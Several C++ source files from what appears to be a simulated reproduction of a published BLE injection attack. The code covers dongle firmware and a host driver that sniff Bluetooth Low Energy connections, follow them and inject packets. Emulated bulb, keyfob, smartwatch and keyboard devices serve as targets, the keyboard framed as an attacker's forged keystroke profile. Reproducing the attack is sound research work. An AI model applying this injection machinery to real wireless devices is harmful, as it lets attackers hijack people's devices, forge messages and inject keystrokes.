// --- firmware ---

void Firmware::notify(NotificationType type, BytesView payload) {
    if (!notify_) return;
    Notification notification;
    notification.type = type;
    notification.payload.assign(payload.begin(), payload.end());
    notify_(notification.serialize());
}

void Firmware::notify_error(const std::string& message) {
    notify(NotificationType::kError,
           Bytes(message.begin(), message.end()));
}

void Firmware::handle_command(BytesView wire) {
    const auto command = Command::parse(wire);
    if (!command) {
        notify_error("malformed command frame");
        return;
    }
    switch (command->type) {
        case CommandType::kVersion: {
            static constexpr char kVersion[] = "injectable-sim-fw 1.0";
            notify(NotificationType::kVersion,
                   Bytes(kVersion, kVersion + sizeof(kVersion) - 1));
            break;
        }
        case CommandType::kStartAdvSniffer:
            start_adv_sniffer();
            break;
        case CommandType::kStartRecovery:
            start_recovery();
            break;
        case CommandType::kFollow:
            follow();
            break;
        case CommandType::kInject:
            inject(command->payload);
            break;
        case CommandType::kStop:
            stop_all();
            break;
    }
}

void Firmware::start_adv_sniffer() {
    stop_all();
    sniffer_ = std::make_unique<AdvSniffer>(radio_);
    sniffer_->on_connection = [this](const SniffedConnection& conn,
                                     const ble::link::ConnectReqPdu&) {
        last_connection_ = conn;
        ByteWriter w;
        write_sniffed_connection(w, conn);
        notify(NotificationType::kConnectionDetected, w.bytes());
    };
    sniffer_->start();
}

void Firmware::start_recovery() {
    stop_all();
    recovery_ = std::make_unique<ConnectionRecovery>(radio_);
    recovery_->on_recovered = [this](const SniffedConnection& conn) {
        last_connection_ = conn;
        ByteWriter w;
        write_sniffed_connection(w, conn);
        notify(NotificationType::kConnectionDetected, w.bytes());
    };
    recovery_->start();
}

void Firmware::follow() {
    if (!last_connection_) {
        notify_error("no connection captured yet");
        return;
    }
    if (sniffer_) sniffer_->stop();
    if (recovery_) recovery_->stop();
    session_ = std::make_unique<AttackSession>(radio_, *last_connection_);
    session_->on_packet = [this](const SniffedPacket& packet) {
        ByteWriter w;
        write_sniffed_packet(w, packet);
        notify(NotificationType::kPacket, w.bytes());
    };
    session_->on_attempt = [this](const AttemptReport& report) {
        ByteWriter w(5);
        w.write_u16(static_cast<std::uint16_t>(report.attempt));
        w.write_u8(report.verdict.success() ? 1 : 0);
        w.write_u8(report.verdict.timing_ok ? 1 : 0);
        w.write_u8(report.verdict.flow_ok ? 1 : 0);
        notify(NotificationType::kInjectionReport, w.bytes());
    };
    session_->on_connection_lost = [this] {
        notify(NotificationType::kConnectionLost, {});
    };
    session_->start();
}

void Firmware::inject(BytesView payload) {
    if (!session_ || session_->lost()) {
        notify_error("not following a connection");
        return;
    }
    ByteReader r(payload);
    const auto llid = r.read_u8();
    const auto max_attempts = r.read_u16();
    if (!llid || !max_attempts) {
        notify_error("malformed inject command");
        return;
    }
    AttackSession::InjectionRequest request;
    request.llid = static_cast<ble::link::Llid>(*llid & 0b11);
    request.payload = r.read_rest();
    request.max_attempts = *max_attempts;
    request.done = [this](bool success, int attempts) {
        ByteWriter w(3);
        w.write_u8(success ? 1 : 0);
        w.write_u16(static_cast<std::uint16_t>(attempts));
        notify(NotificationType::kInjectionDone, w.bytes());
    };
    session_->inject(std::move(request));
}

void Firmware::stop_all() {
    if (sniffer_) sniffer_->stop();
    if (recovery_) recovery_->stop();
    if (session_) session_->stop();
    sniffer_.reset();
    recovery_.reset();
    session_.reset();
}

// --- host driver ---

void HostDriver::send(CommandType type, BytesView payload) {
    Command command;
    command.type = type;
    command.payload.assign(payload.begin(), payload.end());
    to_dongle_(command.serialize());
}

void HostDriver::start_adv_sniffer() { send(CommandType::kStartAdvSniffer); }
void HostDriver::start_recovery() { send(CommandType::kStartRecovery); }
void HostDriver::follow() { send(CommandType::kFollow); }
void HostDriver::stop() { send(CommandType::kStop); }

void HostDriver::inject(ble::link::Llid llid, BytesView payload,
                        std::uint16_t max_attempts) {
    ByteWriter w(3 + payload.size());
    w.write_u8(static_cast<std::uint8_t>(llid));
    w.write_u16(max_attempts);
    w.write_bytes(payload);
    send(CommandType::kInject, w.bytes());
}

void HostDriver::handle_notification(BytesView wire) {
    const auto notification = Notification::parse(wire);
    if (!notification) return;
    ByteReader r(notification->payload);
    switch (notification->type) {
        case NotificationType::kConnectionDetected:
            if (const auto conn = read_sniffed_connection(r); conn && on_connection) {
                on_connection(*conn);
            }
            break;
        case NotificationType::kPacket:
            if (const auto packet = read_sniffed_packet(r); packet && on_packet) {
                on_packet(*packet);
            }
            break;
        case NotificationType::kInjectionReport: {
            const auto attempt = r.read_u16();
            const auto success = r.read_u8();
            if (attempt && success && on_attempt) on_attempt(*attempt, *success != 0);
            break;
        }
        case NotificationType::kInjectionDone: {
            const auto success = r.read_u8();
            const auto attempts = r.read_u16();
            if (success && attempts && on_done) on_done(*success != 0, *attempts);
            break;
        }
        case NotificationType::kConnectionLost:
            if (on_connection_lost) on_connection_lost();
            break;
        case NotificationType::kError:
            if (on_error) {
                on_error(std::string(notification->payload.begin(),
                                     notification->payload.end()));
            }
            break;
        case NotificationType::kVersion:
            break;
    }
}

}  // namespace injectable::dongle
