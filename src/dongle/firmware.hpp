// The dongle "firmware": the embedded half of the paper's §V-E proof of
// concept. It owns the radio and the attack machinery; the host talks to it
// exclusively through serialized Command/Notification frames, exactly like
// the real nRF52840 build behind its USB endpoint.
#pragma once

#include <functional>
#include <memory>
#include <optional>

#include "core/session.hpp"
#include "core/sniffer.hpp"
#include "dongle/protocol.hpp"

namespace injectable::dongle {

class Firmware {
public:
    using NotifySink = std::function<void(const ble::Bytes& wire)>;

    explicit Firmware(AttackerRadio& radio) : radio_(radio) {}

    /// Where notifications are written (the "USB IN endpoint").
    void set_notify_sink(NotifySink sink) { notify_ = std::move(sink); }

    /// Entry point for command frames (the "USB OUT endpoint").
    void handle_command(ble::BytesView wire);

    [[nodiscard]] bool following() const noexcept { return session_ && !session_->lost(); }

private:
    void notify(NotificationType type, ble::BytesView payload);
    void notify_error(const std::string& message);
    void start_adv_sniffer();
    void start_recovery();
    void follow();
    void inject(ble::BytesView payload);
    void stop_all();

    AttackerRadio& radio_;
    NotifySink notify_;

    std::unique_ptr<AdvSniffer> sniffer_;
    std::unique_ptr<ConnectionRecovery> recovery_;
    std::unique_ptr<AttackSession> session_;
    std::optional<SniffedConnection> last_connection_;
};

/// Host-side driver: a typed API over the byte protocol, mirroring the
/// command-line tooling the paper's authors built on top of their dongle.
class HostDriver {
public:
    /// `to_dongle` transports serialized command frames to the firmware.
    explicit HostDriver(std::function<void(const ble::Bytes&)> to_dongle)
        : to_dongle_(std::move(to_dongle)) {}

    /// Feed every notification frame from the dongle here.
    void handle_notification(ble::BytesView wire);

    void start_adv_sniffer();
    void start_recovery();
    void follow();
    void inject(ble::link::Llid llid, ble::BytesView payload, std::uint16_t max_attempts);
    void stop();

    // Host-visible events.
    std::function<void(const SniffedConnection&)> on_connection;
    std::function<void(const SniffedPacket&)> on_packet;
    std::function<void(int attempt, bool success)> on_attempt;
    std::function<void(bool success, int attempts)> on_done;
    std::function<void()> on_connection_lost;
    std::function<void(const std::string&)> on_error;

private:
    void send(CommandType type, ble::BytesView payload = {});

    std::function<void(const ble::Bytes&)> to_dongle_;
};

}  // namespace injectable::dongle
