#include "dongle/protocol.hpp"

namespace injectable::dongle {

using ble::ByteReader;
using ble::Bytes;
using ble::BytesView;
using ble::ByteWriter;

namespace {
Bytes serialize_frame(std::uint8_t type, BytesView payload) {
    ByteWriter w(3 + payload.size());
    w.write_u8(type);
    w.write_u16(static_cast<std::uint16_t>(payload.size()));
    w.write_bytes(payload);
    return w.take();
}

std::optional<std::pair<std::uint8_t, Bytes>> parse_frame(BytesView wire) noexcept {
    ByteReader r(wire);
    const auto type = r.read_u8();
    const auto length = r.read_u16();
    if (!type || !length || r.remaining() != *length) return std::nullopt;
    return std::pair{*type, r.read_rest()};
}
}  // namespace

Bytes Command::serialize() const {
    return serialize_frame(static_cast<std::uint8_t>(type), payload);
}

std::optional<Command> Command::parse(BytesView wire) noexcept {
    const auto frame = parse_frame(wire);
    if (!frame) return std::nullopt;
    return Command{static_cast<CommandType>(frame->first), frame->second};
}

Bytes Notification::serialize() const {
    return serialize_frame(static_cast<std::uint8_t>(type), payload);
}

std::optional<Notification> Notification::parse(BytesView wire) noexcept {
    const auto frame = parse_frame(wire);
    if (!frame) return std::nullopt;
    return Notification{static_cast<NotificationType>(frame->first), frame->second};
}

void write_sniffed_connection(ByteWriter& w, const SniffedConnection& conn) {
    w.write_u32(conn.params.access_address);
    w.write_u24(conn.params.crc_init);
    w.write_u8(conn.params.win_size);
    w.write_u16(conn.params.win_offset);
    w.write_u16(conn.params.hop_interval);
    w.write_u16(conn.params.latency);
    w.write_u16(conn.params.timeout);
    conn.params.channel_map.write_to(w);
    w.write_u8(conn.params.hop_increment);
    w.write_u8(conn.params.master_sca);
    w.write_u64(static_cast<std::uint64_t>(conn.time_reference));
    w.write_u8(conn.from_connect_req ? 1 : 0);
    w.write_u8(conn.recovered_unmapped_channel);
    w.write_u8(conn.params.use_csa2 ? 1 : 0);
}

std::optional<SniffedConnection> read_sniffed_connection(ByteReader& r) {
    SniffedConnection conn;
    const auto aa = r.read_u32();
    if (!aa) return std::nullopt;
    conn.params.access_address = *aa;
    conn.params.crc_init = r.read_u24().value_or(0);
    conn.params.win_size = r.read_u8().value_or(0);
    conn.params.win_offset = r.read_u16().value_or(0);
    conn.params.hop_interval = r.read_u16().value_or(0);
    conn.params.latency = r.read_u16().value_or(0);
    conn.params.timeout = r.read_u16().value_or(0);
    conn.params.channel_map = ble::link::ChannelMap::read_from(r);
    conn.params.hop_increment = r.read_u8().value_or(0);
    conn.params.master_sca = r.read_u8().value_or(0);
    conn.time_reference = static_cast<ble::TimePoint>(r.read_u64().value_or(0));
    conn.from_connect_req = r.read_u8().value_or(1) != 0;
    conn.recovered_unmapped_channel = r.read_u8().value_or(0);
    conn.params.use_csa2 = r.read_u8().value_or(0) != 0;
    if (!r.ok()) return std::nullopt;
    return conn;
}

void write_sniffed_packet(ByteWriter& w, const SniffedPacket& packet) {
    w.write_u16(packet.event_counter);
    w.write_u8(packet.sender == SniffedPacket::Sender::kMaster ? 0 : 1);
    w.write_u8(packet.crc_ok ? 1 : 0);
    w.write_u64(static_cast<std::uint64_t>(packet.start));
    w.write_u64(static_cast<std::uint64_t>(packet.end));
    w.write_u8(packet.channel);
    const ble::Bytes pdu = packet.pdu.serialize();
    w.write_u16(static_cast<std::uint16_t>(pdu.size()));
    w.write_bytes(pdu);
}

std::optional<SniffedPacket> read_sniffed_packet(ByteReader& r) {
    SniffedPacket packet;
    const auto counter = r.read_u16();
    if (!counter) return std::nullopt;
    packet.event_counter = *counter;
    packet.sender = r.read_u8().value_or(0) == 0 ? SniffedPacket::Sender::kMaster
                                                 : SniffedPacket::Sender::kSlave;
    packet.crc_ok = r.read_u8().value_or(0) != 0;
    packet.start = static_cast<ble::TimePoint>(r.read_u64().value_or(0));
    packet.end = static_cast<ble::TimePoint>(r.read_u64().value_or(0));
    packet.channel = r.read_u8().value_or(0);
    const auto pdu_len = r.read_u16();
    if (!pdu_len) return std::nullopt;
    const auto pdu = r.read_bytes(*pdu_len);
    if (!pdu) return std::nullopt;
    const auto parsed = ble::link::DataPdu::parse(*pdu);
    if (parsed) packet.pdu = *parsed;
    return packet;
}

}  // namespace injectable::dongle
