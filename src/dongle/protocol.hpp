// The attack dongle's wire protocol (paper §V-E: "The dongle communicates
// with the Host using a custom USB protocol, allowing to transmit commands to
// the embedded software" ... "if the injection attempt succeeds, a
// notification is transmitted to the Host indicating the number of injection
// attempts before a successful injection").
//
// Frames are [type u8 | length u16 | payload], little-endian, both ways.
#pragma once

#include <cstdint>
#include <optional>

#include "common/bytes.hpp"
#include "core/session.hpp"

namespace injectable::dongle {

enum class CommandType : std::uint8_t {
    kVersion = 0x01,
    kStartAdvSniffer = 0x02,   ///< camp on advertising channels
    kStartRecovery = 0x03,     ///< recover an already-running connection
    kFollow = 0x04,            ///< follow the last detected connection
    kInject = 0x05,            ///< payload: llid u8 | max_attempts u16 | LL payload
    kStop = 0x06,
};

enum class NotificationType : std::uint8_t {
    kVersion = 0x81,
    kConnectionDetected = 0x82,  ///< payload: serialized SniffedConnection
    kPacket = 0x83,              ///< payload: serialized SniffedPacket
    kInjectionReport = 0x84,     ///< payload: attempt u16 | success u8 | timing u8 | flow u8
    kInjectionDone = 0x85,       ///< payload: success u8 | attempts u16
    kConnectionLost = 0x86,
    kError = 0x87,               ///< payload: ASCII message
};

struct Command {
    CommandType type{};
    ble::Bytes payload;

    [[nodiscard]] ble::Bytes serialize() const;
    static std::optional<Command> parse(ble::BytesView wire) noexcept;
};

struct Notification {
    NotificationType type{};
    ble::Bytes payload;

    [[nodiscard]] ble::Bytes serialize() const;
    static std::optional<Notification> parse(ble::BytesView wire) noexcept;
};

// Payload codecs shared by both ends.
void write_sniffed_connection(ble::ByteWriter& w, const SniffedConnection& conn);
[[nodiscard]] std::optional<SniffedConnection> read_sniffed_connection(ble::ByteReader& r);

void write_sniffed_packet(ble::ByteWriter& w, const SniffedPacket& packet);
[[nodiscard]] std::optional<SniffedPacket> read_sniffed_packet(ble::ByteReader& r);

}  // namespace injectable::dongle
