#include "gatt/builder.hpp"

namespace ble::gatt {

std::uint16_t GattBuilder::begin_service(const att::Uuid& uuid) {
    att::Attribute attr;
    attr.type = att::Uuid::from16(kPrimaryService);
    ByteWriter w;
    uuid.write_to(w);
    attr.value = w.take();
    attr.readable = true;
    return server_.add(std::move(attr));
}

CharacteristicHandles GattBuilder::add_characteristic(CharacteristicSpec spec) {
    CharacteristicHandles handles;

    // Declaration: properties(1) | value handle(2) | UUID. The value handle is
    // always the next one, which we know because handles are sequential.
    att::Attribute decl;
    decl.type = att::Uuid::from16(kCharacteristicDecl);
    decl.readable = true;
    handles.declaration = static_cast<std::uint16_t>(server_.attributes().size() + 1);
    const auto value_handle = static_cast<std::uint16_t>(handles.declaration + 1);
    ByteWriter w;
    w.write_u8(spec.properties);
    w.write_u16(value_handle);
    spec.uuid.write_to(w);
    decl.value = w.take();
    server_.add(std::move(decl));

    att::Attribute value;
    value.type = spec.uuid;
    value.value = std::move(spec.initial_value);
    value.readable = (spec.properties & props::kRead) != 0;
    value.writable = (spec.properties & (props::kWrite | props::kWriteNoRsp)) != 0;
    value.on_read = std::move(spec.on_read);
    value.on_write = std::move(spec.on_write);
    handles.value = server_.add(std::move(value));

    if (spec.with_cccd || (spec.properties & (props::kNotify | props::kIndicate)) != 0) {
        att::Attribute cccd;
        cccd.type = att::Uuid::from16(kCccd);
        cccd.value = {0x00, 0x00};
        cccd.readable = true;
        cccd.writable = true;
        handles.cccd = server_.add(std::move(cccd));
    }
    return handles;
}

std::uint16_t add_gap_service(GattBuilder& builder, const std::string& device_name) {
    builder.begin_service(kGapService);
    GattBuilder::CharacteristicSpec name;
    name.uuid = att::Uuid::from16(kDeviceName);
    name.properties = props::kRead;
    name.initial_value.assign(device_name.begin(), device_name.end());
    const auto handles = builder.add_characteristic(std::move(name));

    GattBuilder::CharacteristicSpec appearance;
    appearance.uuid = att::Uuid::from16(kAppearance);
    appearance.properties = props::kRead;
    appearance.initial_value = {0x00, 0x00};
    builder.add_characteristic(std::move(appearance));
    return handles.value;
}

}  // namespace ble::gatt
