// GATT attribute-table builder: lays out services, characteristic
// declarations, values and CCCDs in the handle order real stacks use, so a
// generic GATT client (or an attacker's injected discovery requests) sees a
// realistic database.
#pragma once

#include <cstdint>
#include <functional>
#include <string>

#include "att/server.hpp"
#include "gatt/uuids.hpp"

namespace ble::gatt {

/// Handles describing one characteristic after insertion.
struct CharacteristicHandles {
    std::uint16_t declaration = 0;
    std::uint16_t value = 0;
    std::uint16_t cccd = 0;  // 0 when the characteristic has no CCCD
};

class GattBuilder {
public:
    explicit GattBuilder(att::AttServer& server) : server_(server) {}

    /// Starts a primary service group.
    std::uint16_t begin_service(const att::Uuid& uuid);
    std::uint16_t begin_service(std::uint16_t uuid16) {
        return begin_service(att::Uuid::from16(uuid16));
    }

    struct CharacteristicSpec {
        att::Uuid uuid;
        std::uint8_t properties = props::kRead;
        Bytes initial_value;
        std::function<Bytes()> on_read;
        std::function<std::optional<att::ErrorCode>(BytesView)> on_write;
        bool with_cccd = false;
    };

    CharacteristicHandles add_characteristic(CharacteristicSpec spec);

private:
    att::AttServer& server_;
};

/// Convenience: adds the mandatory GAP service (device name + appearance).
/// Returns the device-name value handle — the attribute scenario B's hijacker
/// serves "Hacked" from.
std::uint16_t add_gap_service(GattBuilder& builder, const std::string& device_name);

}  // namespace ble::gatt
