#include "gatt/profiles.hpp"

#include <algorithm>

namespace ble::gatt {

namespace {
// Vendor 128-bit UUIDs for the bulb's service/characteristic (arbitrary but
// stable values, standing in for the real product's proprietary UUIDs).
const att::Uuid kBulbService = att::Uuid::from128(
    {0x01, 0x00, 0x00, 0x00, 0xAA, 0xBB, 0xCC, 0xDD, 0xEE, 0xFF, 0x10, 0x20, 0x30, 0x40,
     0x50, 0x60});
const att::Uuid kBulbControl = att::Uuid::from128(
    {0x02, 0x00, 0x00, 0x00, 0xAA, 0xBB, 0xCC, 0xDD, 0xEE, 0xFF, 0x10, 0x20, 0x30, 0x40,
     0x50, 0x60});
}  // namespace

void LightbulbProfile::install(att::AttServer& server, const std::string& name) {
    GattBuilder builder(server);
    name_handle_ = add_gap_service(builder, name);

    builder.begin_service(kBulbService);
    GattBuilder::CharacteristicSpec control;
    control.uuid = kBulbControl;
    control.properties = props::kRead | props::kWrite | props::kWriteNoRsp;
    control.initial_value = {0x00};
    control.on_write = [this](BytesView value) { return handle_command(value); };
    control_handle_ = builder.add_characteristic(std::move(control)).value;
}

std::optional<att::ErrorCode> LightbulbProfile::handle_command(BytesView value) {
    if (value.empty()) return att::ErrorCode::kInvalidAttributeValueLength;
    switch (value[0]) {
        case kSetPower:
            if (value.size() < 2) return att::ErrorCode::kInvalidAttributeValueLength;
            state_.powered = value[1] != 0;
            break;
        case kSetColor:
            if (value.size() < 4) return att::ErrorCode::kInvalidAttributeValueLength;
            state_.r = value[1];
            state_.g = value[2];
            state_.b = value[3];
            break;
        case kSetBrightness:
            if (value.size() < 2) return att::ErrorCode::kInvalidAttributeValueLength;
            state_.brightness = std::min<std::uint8_t>(value[1], 100);
            break;
        default:
            return att::ErrorCode::kRequestNotSupported;
    }
    ++state_.commands_received;
    if (on_change) on_change(state_);
    return std::nullopt;
}

namespace {
Bytes padded(Bytes base, std::size_t pad) {
    base.insert(base.end(), pad, 0x00);
    return base;
}
}  // namespace

Bytes LightbulbProfile::cmd_set_power(bool on, std::size_t pad) {
    return padded({kSetPower, static_cast<std::uint8_t>(on ? 1 : 0)}, pad);
}

Bytes LightbulbProfile::cmd_set_color(std::uint8_t r, std::uint8_t g, std::uint8_t b,
                                      std::size_t pad) {
    return padded({kSetColor, r, g, b}, pad);
}

Bytes LightbulbProfile::cmd_set_brightness(std::uint8_t level, std::size_t pad) {
    return padded({kSetBrightness, level}, pad);
}

void KeyfobProfile::install(att::AttServer& server, const std::string& name) {
    GattBuilder builder(server);
    name_handle_ = add_gap_service(builder, name);

    builder.begin_service(kImmediateAlertService);
    GattBuilder::CharacteristicSpec alert;
    alert.uuid = att::Uuid::from16(kAlertLevel);
    alert.properties = props::kRead | props::kWrite | props::kWriteNoRsp;
    alert.initial_value = {0x00};
    alert.on_write = [this](BytesView value) -> std::optional<att::ErrorCode> {
        if (value.size() != 1) return att::ErrorCode::kInvalidAttributeValueLength;
        if (value[0] > 2) return att::ErrorCode::kInvalidAttributeValueLength;
        alert_level_ = value[0];
        if (on_alert) on_alert(alert_level_);
        return std::nullopt;
    };
    alert_handle_ = builder.add_characteristic(std::move(alert)).value;
}

void SmartwatchProfile::install(att::AttServer& server, const std::string& name) {
    GattBuilder builder(server);
    name_handle_ = add_gap_service(builder, name);

    builder.begin_service(kAlertNotificationService);
    GattBuilder::CharacteristicSpec sms;
    sms.uuid = att::Uuid::from16(kNewAlert);
    sms.properties = props::kWrite | props::kNotify;
    sms.on_write = [this](BytesView value) -> std::optional<att::ErrorCode> {
        auto parsed = decode_sms(value);
        if (!parsed) return att::ErrorCode::kInvalidAttributeValueLength;
        messages_.push_back(*parsed);
        if (on_sms) on_sms(messages_.back());
        return std::nullopt;
    };
    sms_handle_ = builder.add_characteristic(std::move(sms)).value;

    builder.begin_service(kBatteryService);
    GattBuilder::CharacteristicSpec battery;
    battery.uuid = att::Uuid::from16(kBatteryLevel);
    battery.properties = props::kRead | props::kNotify;
    battery.initial_value = {100};
    battery_handle_ = builder.add_characteristic(std::move(battery)).value;
}

Bytes SmartwatchProfile::encode_sms(const std::string& sender, const std::string& body) {
    Bytes out;
    out.reserve(sender.size() + 1 + body.size());
    out.insert(out.end(), sender.begin(), sender.end());
    out.push_back(0x00);
    out.insert(out.end(), body.begin(), body.end());
    return out;
}

std::optional<SmartwatchProfile::Sms> SmartwatchProfile::decode_sms(BytesView value) {
    const auto sep = std::find(value.begin(), value.end(), std::uint8_t{0});
    if (sep == value.end()) return std::nullopt;
    Sms sms;
    sms.sender.assign(value.begin(), sep);
    sms.body.assign(sep + 1, value.end());
    return sms;
}

namespace {
// USB HID usage tables, boot keyboard page: a-z => 0x04.., 1-9 => 0x1E..,
// 0 => 0x27, space 0x2C. Shifted characters set the left-shift modifier.
struct HidKey {
    std::uint8_t usage;
    bool shift;
};

HidKey hid_key_for(char c) {
    if (c >= 'a' && c <= 'z') return {static_cast<std::uint8_t>(0x04 + (c - 'a')), false};
    if (c >= 'A' && c <= 'Z') return {static_cast<std::uint8_t>(0x04 + (c - 'A')), true};
    if (c >= '1' && c <= '9') return {static_cast<std::uint8_t>(0x1E + (c - '1')), false};
    switch (c) {
        case '0': return {0x27, false};
        case '\n': return {0x28, false};
        case ' ': return {0x2C, false};
        case '-': return {0x2D, false};
        case '.': return {0x37, false};
        case '/': return {0x38, false};
        case '\\': return {0x31, false};
        case '|': return {0x31, true};
        default: return {0x00, false};
    }
}

char hid_char_for(std::uint8_t usage, bool shift) {
    if (usage >= 0x04 && usage <= 0x1D) {
        const char base = static_cast<char>('a' + (usage - 0x04));
        return shift ? static_cast<char>(base - 'a' + 'A') : base;
    }
    if (usage >= 0x1E && usage <= 0x26) return static_cast<char>('1' + (usage - 0x1E));
    switch (usage) {
        case 0x27: return '0';
        case 0x28: return '\n';
        case 0x2C: return ' ';
        case 0x2D: return '-';
        case 0x37: return '.';
        case 0x38: return '/';
        case 0x31: return shift ? '|' : '\\';
        default: return 0;
    }
}

// Minimal boot-keyboard report map (descriptor), as real HoG keyboards ship.
const Bytes kBootKeyboardReportMap = {
    0x05, 0x01,  // Usage Page (Generic Desktop)
    0x09, 0x06,  // Usage (Keyboard)
    0xA1, 0x01,  // Collection (Application)
    0x05, 0x07,  //   Usage Page (Key Codes)
    0x19, 0xE0, 0x29, 0xE7, 0x15, 0x00, 0x25, 0x01,
    0x75, 0x01, 0x95, 0x08, 0x81, 0x02,  //   modifiers
    0x95, 0x01, 0x75, 0x08, 0x81, 0x01,  //   reserved byte
    0x95, 0x06, 0x75, 0x08, 0x15, 0x00, 0x25, 0x65,
    0x19, 0x00, 0x29, 0x65, 0x81, 0x00,  //   6 keycodes
    0xC0,        // End Collection
};
}  // namespace

void HidKeyboardProfile::install(att::AttServer& server, const std::string& name) {
    GattBuilder builder(server);
    name_handle_ = add_gap_service(builder, name);

    builder.begin_service(kHidService);

    GattBuilder::CharacteristicSpec protocol_mode;
    protocol_mode.uuid = att::Uuid::from16(kHidProtocolMode);
    protocol_mode.properties = props::kRead | props::kWriteNoRsp;
    protocol_mode.initial_value = {0x01};  // report protocol
    builder.add_characteristic(std::move(protocol_mode));

    GattBuilder::CharacteristicSpec report_map;
    report_map.uuid = att::Uuid::from16(kHidReportMap);
    report_map.properties = props::kRead;
    report_map.initial_value = kBootKeyboardReportMap;
    report_map_handle_ = builder.add_characteristic(std::move(report_map)).value;

    GattBuilder::CharacteristicSpec report;
    report.uuid = att::Uuid::from16(kHidReport);
    report.properties = props::kRead | props::kNotify;
    report.initial_value = Bytes(8, 0x00);
    report_handle_ = builder.add_characteristic(std::move(report)).value;

    GattBuilder::CharacteristicSpec hid_info;
    hid_info.uuid = att::Uuid::from16(kHidInformation);
    hid_info.properties = props::kRead;
    hid_info.initial_value = {0x11, 0x01, 0x00, 0x02};  // HID 1.11, normally connectable
    builder.add_characteristic(std::move(hid_info));

    GattBuilder::CharacteristicSpec control_point;
    control_point.uuid = att::Uuid::from16(kHidControlPoint);
    control_point.properties = props::kWriteNoRsp;
    builder.add_characteristic(std::move(control_point));
}

Bytes HidKeyboardProfile::key_press_report(char c) {
    const HidKey key = hid_key_for(c);
    Bytes report(8, 0x00);
    report[0] = key.shift ? 0x02 : 0x00;  // left shift modifier
    report[2] = key.usage;
    return report;
}

Bytes HidKeyboardProfile::key_release_report() { return Bytes(8, 0x00); }

char HidKeyboardProfile::decode_report(BytesView report) {
    if (report.size() != 8 || report[2] == 0) return 0;
    return hid_char_for(report[2], (report[0] & 0x22) != 0);
}

}  // namespace ble::gatt
