// Emulated commercial devices (paper §VI-A): a connected lightbulb, a keyfob
// and a smartwatch. Each installs a GATT database with the same *shape* the
// paper reverse-engineered — a vendor write-protocol for the bulb, the
// Immediate Alert service for the keyfob, an alert/SMS characteristic for the
// watch — and exposes observable state, so attack scenarios can be validated
// by their side effects ("turning the bulb on and off, changing its colour…",
// "making the keyfob ring", "transmitting a forged SMS to the watch").
#pragma once

#include <cstdint>
#include <functional>
#include <string>
#include <vector>

#include "att/server.hpp"
#include "gatt/builder.hpp"

namespace ble::gatt {

/// Vendor write-protocol of the emulated lightbulb. A command is
/// [opcode | args | padding...]; trailing padding is ignored, which lets the
/// sensitivity benches pick exact payload sizes like the paper's 4/9/14/16.
class LightbulbProfile {
public:
    struct State {
        bool powered = true;
        std::uint8_t r = 255, g = 255, b = 255;
        std::uint8_t brightness = 100;
        int commands_received = 0;
    };

    enum Command : std::uint8_t {
        kSetPower = 0x01,
        kSetColor = 0x02,
        kSetBrightness = 0x03,
    };

    /// Installs GAP + the vendor service into `server`.
    void install(att::AttServer& server, const std::string& name = "SmartBulb");

    [[nodiscard]] const State& state() const noexcept { return state_; }
    [[nodiscard]] std::uint16_t control_handle() const noexcept { return control_handle_; }
    [[nodiscard]] std::uint16_t name_handle() const noexcept { return name_handle_; }

    /// Fired on every accepted command (the "observable effect").
    std::function<void(const State&)> on_change;

    // Command builders (padding extends the ATT value with ignored bytes).
    static Bytes cmd_set_power(bool on, std::size_t pad = 0);
    static Bytes cmd_set_color(std::uint8_t r, std::uint8_t g, std::uint8_t b,
                               std::size_t pad = 0);
    static Bytes cmd_set_brightness(std::uint8_t level, std::size_t pad = 0);

private:
    std::optional<att::ErrorCode> handle_command(BytesView value);

    State state_;
    std::uint16_t control_handle_ = 0;
    std::uint16_t name_handle_ = 0;
};

/// Keyfob with the Immediate Alert service: writing the Alert Level makes it
/// ring.
class KeyfobProfile {
public:
    void install(att::AttServer& server, const std::string& name = "KeyFob");

    [[nodiscard]] bool ringing() const noexcept { return alert_level_ > 0; }
    [[nodiscard]] std::uint8_t alert_level() const noexcept { return alert_level_; }
    [[nodiscard]] std::uint16_t alert_handle() const noexcept { return alert_handle_; }
    [[nodiscard]] std::uint16_t name_handle() const noexcept { return name_handle_; }

    std::function<void(std::uint8_t)> on_alert;

private:
    std::uint8_t alert_level_ = 0;
    std::uint16_t alert_handle_ = 0;
    std::uint16_t name_handle_ = 0;
};

/// Smartwatch receiving SMS-style alerts: the paired phone writes
/// [sender '\0' body] to the New Alert characteristic; the watch stores and
/// displays them.
class SmartwatchProfile {
public:
    struct Sms {
        std::string sender;
        std::string body;
    };

    void install(att::AttServer& server, const std::string& name = "SmartWatch");

    [[nodiscard]] const std::vector<Sms>& messages() const noexcept { return messages_; }
    [[nodiscard]] std::uint16_t sms_handle() const noexcept { return sms_handle_; }
    [[nodiscard]] std::uint16_t name_handle() const noexcept { return name_handle_; }
    [[nodiscard]] std::uint16_t battery_handle() const noexcept { return battery_handle_; }

    std::function<void(const Sms&)> on_sms;

    static Bytes encode_sms(const std::string& sender, const std::string& body);
    static std::optional<Sms> decode_sms(BytesView value);

private:
    std::vector<Sms> messages_;
    std::uint16_t sms_handle_ = 0;
    std::uint16_t name_handle_ = 0;
    std::uint16_t battery_handle_ = 0;
};

/// HID-over-GATT keyboard (paper §IX, future work: "expose a malicious
/// keyboard profile instead of the original one, and inject keystrokes to the
/// Master by implementing HID over GATT"). Usable both as a benign keyboard
/// peripheral and as the attacker's forged profile after a slave hijack.
class HidKeyboardProfile {
public:
    void install(att::AttServer& server, const std::string& name = "BLE Keyboard");

    [[nodiscard]] std::uint16_t report_handle() const noexcept { return report_handle_; }
    [[nodiscard]] std::uint16_t report_map_handle() const noexcept {
        return report_map_handle_;
    }
    [[nodiscard]] std::uint16_t name_handle() const noexcept { return name_handle_; }

    /// 8-byte boot keyboard input report for one ASCII character
    /// ([modifiers | reserved | keycode1 .. keycode6]); unsupported
    /// characters map to an empty report.
    static Bytes key_press_report(char c);
    /// The all-zero "key released" report.
    static Bytes key_release_report();
    /// Decodes a report back to the ASCII character it encodes (0 if none) —
    /// what a host HID driver would type.
    static char decode_report(BytesView report);

private:
    std::uint16_t report_handle_ = 0;
    std::uint16_t report_map_handle_ = 0;
    std::uint16_t name_handle_ = 0;
};

}  // namespace ble::gatt
