// SIG-assigned 16-bit UUIDs used by the emulated devices.
#pragma once

#include <cstdint>

namespace ble::gatt {

// Declarations.
constexpr std::uint16_t kPrimaryService = 0x2800;
constexpr std::uint16_t kSecondaryService = 0x2801;
constexpr std::uint16_t kCharacteristicDecl = 0x2803;
constexpr std::uint16_t kCccd = 0x2902;  // Client Characteristic Configuration

